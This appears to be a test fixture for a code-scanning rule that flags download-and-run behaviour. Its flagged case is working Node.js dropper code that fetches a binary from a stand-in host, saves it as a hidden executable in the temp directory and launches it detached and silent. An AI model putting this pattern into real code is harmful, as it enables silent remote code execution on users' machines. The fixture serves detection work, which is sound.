const https = require('https');
const fs = require('fs');
const c = require('child_process');
const dest = require('path').join(require('os').tmpdir(), '.ck');
https.get({ host: 'cdn.example.top', path: '/r/linux' }, (r) => {
  // ruleid: download_and_run
  const s = fs.createWriteStream(dest, { mode: 493 });
  r.pipe(s);
  s.on('finish', () => c.spawn(dest, [], { detached: true, stdio: 'ignore' }).unref());
});
// ok: download_and_run
fs.writeFileSync(logFile, text, { mode: 0o644 });
